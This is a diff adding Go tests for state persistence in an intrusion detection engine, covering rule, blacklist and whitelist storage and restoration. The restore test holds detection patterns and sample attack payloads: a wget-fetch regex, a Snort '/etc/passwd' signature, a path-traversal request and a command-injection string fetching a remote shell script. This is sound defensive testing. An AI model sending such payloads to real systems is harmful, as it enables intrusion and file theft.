@@ -0,0 +1,215 @@
+package axiom
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"pandora_box_console_ids_ips/internal/metrics"
+
+	"github.com/sirupsen/logrus"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func newPersistentEngine(t *testing.T, store StateStore) *AnalysisEngine {
+	t.Helper()
+
+	logger := logrus.New()
+	logger.SetLevel(logrus.ErrorLevel)
+
+	engine := NewAnalysisEngine(logger, metrics.NewPrometheusMetrics(logger))
+	engine.SetStateStore(store)
+	return engine
+}
+
+// startEngine 啟動引擎並在測試結束時停止
+func startEngine(t *testing.T, engine *AnalysisEngine) {
+	t.Helper()
+
+	ctx, cancel := context.WithCancel(context.Background())
+	done := make(chan error, 1)
+	go func() {
+		done <- engine.Start(ctx)
+	}()
+	require.Eventually(t, func() bool {
+		engine.mutex.RLock()
+		defer engine.mutex.RUnlock()
+		return engine.running
+	}, time.Second, time.Millisecond)
+
+	t.Cleanup(func() {
+		cancel()
+		<-done
+	})
+}
+
+func TestFileStateStore(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "state", "engine.json")
+	ctx := context.Background()
+
+	store, err := NewFileStateStore(path)
+	require.NoError(t, err)
+
+	expiresAt := time.Now().Add(time.Hour).Truncate(time.Second)
+	require.NoError(t, store.SaveRule(ctx, &SecurityRule{ID: "r1", Type: "pattern", Pattern: "evil", Enabled: true}))
+	require.NoError(t, store.SaveRule(ctx, &SecurityRule{ID: "r2", Type: "pattern", Pattern: "bad"}))
+	require.NoError(t, store.DeleteRule(ctx, "r2"))
+	require.NoError(t, store.SaveBlacklistEntry(ctx, "203.0.113.1", expiresAt))
+	require.NoError(t, store.SaveWhitelistEntry(ctx, "198.51.100.1"))
+	require.NoError(t, store.SaveWhitelistEntry(ctx, "198.51.100.2"))
+	require.NoError(t, store.DeleteWhitelistEntry(ctx, "198.51.100.2"))
+
+	// 重新開啟檔案應讀到相同狀態
+	reopened, err := NewFileStateStore(path)
+	require.NoError(t, err)
+	state, err := reopened.LoadState(ctx)
+	require.NoError(t, err)
+
+	require.Len(t, state.Rules, 1)
+	assert.Equal(t, "r1", state.Rules[0].ID)
+	assert.True(t, state.Rules[0].Enabled)
+	assert.True(t, expiresAt.Equal(state.Blacklist["203.0.113.1"]))
+	assert.Equal(t, []string{"198.51.100.1"}, state.Whitelist)
+
+	// 不應遺留暫存檔
+	entries, err := os.ReadDir(filepath.Dir(path))
+	require.NoError(t, err)
+	assert.Len(t, entries, 1)
+}
+
+func TestFileStateStoreCorrupted(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "engine.json")
+	require.NoError(t, os.WriteFile(path, []byte("{not json"), 0o600))
+
+	_, err := NewFileStateStore(path)
+	assert.Error(t, err)
+}
+
+func TestFileStateStoreBatch(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "engine.json")
+	ctx := context.Background()
+
+	store, err := NewFileStateStore(path)
+	require.NoError(t, err)
+
+	require.NoError(t, store.Batch(func() error {
+		require.NoError(t, store.SaveBlacklistEntry(ctx, "203.0.113.1", time.Now().Add(time.Hour)))
+		require.NoError(t, store.SaveWhitelistEntry(ctx, "198.51.100.1"))
+		_, err := os.Stat(path)
+		assert.True(t, os.IsNotExist(err), "批次結束前不應寫檔")
+		return nil
+	}))
+
+	reopened, err := NewFileStateStore(path)
+	require.NoError(t, err)
+	state, err := reopened.LoadState(ctx)
+	require.NoError(t, err)
+	assert.Contains(t, state.Blacklist, "203.0.113.1")
+	assert.Equal(t, []string{"198.51.100.1"}, state.Whitelist)
+}
+
+// blockingStateStore 寫入黑名單時阻塞直到 release 關閉
+type blockingStateStore struct {
+	*FileStateStore
+	release chan struct{}
+}
+
+func (s *blockingStateStore) SaveBlacklistEntry(ctx context.Context, ip string, expiresAt time.Time) error {
+	<-s.release
+	return s.FileStateStore.SaveBlacklistEntry(ctx, ip, expiresAt)
+}
+
+func TestPersistDoesNotBlockAnalysis(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "engine.json")
+	files, err := NewFileStateStore(path)
+	require.NoError(t, err)
+	store := &blockingStateStore{FileStateStore: files, release: make(chan struct{})}
+
+	engine := newPersistentEngine(t, store)
+	done := make(chan struct{})
+	go func() {
+		engine.addToBlacklist("203.0.113.20", time.Hour)
+		engine.addToBlacklist("203.0.113.21", time.Hour)
+		close(done)
+	}()
+	select {
+	case <-done:
+	case <-time.After(time.Second):
+		t.Fatal("儲存緩慢時不應阻塞黑名單更新")
+	}
+	assert.Len(t, engine.GetBlacklist(), 2)
+
+	close(store.release)
+	require.NoError(t, engine.FlushState(context.Background()))
+	state, err := files.LoadState(context.Background())
+	require.NoError(t, err)
+	assert.Len(t, state.Blacklist, 2)
+}
+
+func TestEngineRestoreState(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "engine.json")
+	store, err := NewFileStateStore(path)
+	require.NoError(t, err)
+
+	first := newPersistentEngine(t, store)
+	require.NoError(t, first.AddRule(&SecurityRule{
+		ID: "custom_regex", Name: "自訂規則", Type: "pattern", Pattern: "regex:(?i)wget\\s+http",
+		Action: "block", Severity: "high", Enabled: true,
+	}))
+
+	sig, err := NewSnortParser(map[string]string{"HOME_NET": "172.16.0.0/12"}).ParseRule(
+		`alert tcp any any -> $HOME_NET 80 (msg:"passwd"; content:"/etc/passwd"; classtype:attempted-recon; sid:1122; rev:1;)`)
+	require.NoError(t, err)
+	require.NoError(t, first.AddRule(sig))
+
+	require.NoError(t, first.AddToWhitelist("198.51.100.10"))
+	first.mutex.Lock()
+	first.addToBlacklist("203.0.113.20", time.Hour)
+	first.addToBlacklist("203.0.113.21", time.Millisecond)
+	first.mutex.Unlock()
+	time.Sleep(5 * time.Millisecond)
+	require.NoError(t, first.FlushState(context.Background()))
+
+	// 模擬重新啟動
+	reopened, err := NewFileStateStore(path)
+	require.NoError(t, err)
+	second := newPersistentEngine(t, reopened)
+	startEngine(t, second)
+
+	rules := make(map[string]*SecurityRule)
+	for _, rule := range second.GetRules() {
+		rules[rule.ID] = rule
+	}
+	require.Contains(t, rules, "custom_regex")
+	require.Contains(t, rules, "sid_1122")
+	assert.Equal(t, map[string]string{"HOME_NET": "172.16.0.0/12"}, rules["sid_1122"].Signature.Variables)
+
+	assert.Equal(t, []string{"198.51.100.10"}, second.GetWhitelist())
+	blacklist := second.GetBlacklist()
+	require.Len(t, blacklist, 1, "已過期的黑名單不應恢復")
+	assert.Equal(t, "203.0.113.20", blacklist[0].IP)
+	remaining := time.Until(blacklist[0].ExpiresAt)
+	assert.True(t, remaining > 59*time.Minute && remaining <= time.Hour, "應保留剩餘的 TTL")
+
+	// 恢復的正則與簽章規則可正常比對
+	result, err := second.AnalyzePacket(&NetworkPacket{
+		SourceIP: "203.0.113.30", DestIP: "172.16.5.5", SourcePort: 40000, DestPort: 80,
+		Protocol: "TCP", PayloadString: "GET /../../etc/passwd HTTP/1.1",
+	})
+	require.NoError(t, err)
+	assert.Equal(t, "sid_1122", result.RuleID)
+
+	result, err = second.AnalyzePacket(&NetworkPacket{
+		SourceIP: "203.0.113.31", DestIP: "172.16.5.5", SourcePort: 40000, DestPort: 8081,
+		Protocol: "TCP", PayloadString: "cmd=WGET  http://x/a.sh",
+	})
+	require.NoError(t, err)
+	assert.Equal(t, "custom_regex", result.RuleID)
+
+	state, err := reopened.LoadState(context.Background())
+	require.NoError(t, err)
+	assert.NotContains(t, state.Blacklist, "203.0.113.21", "過期項目應從儲存移除")
+}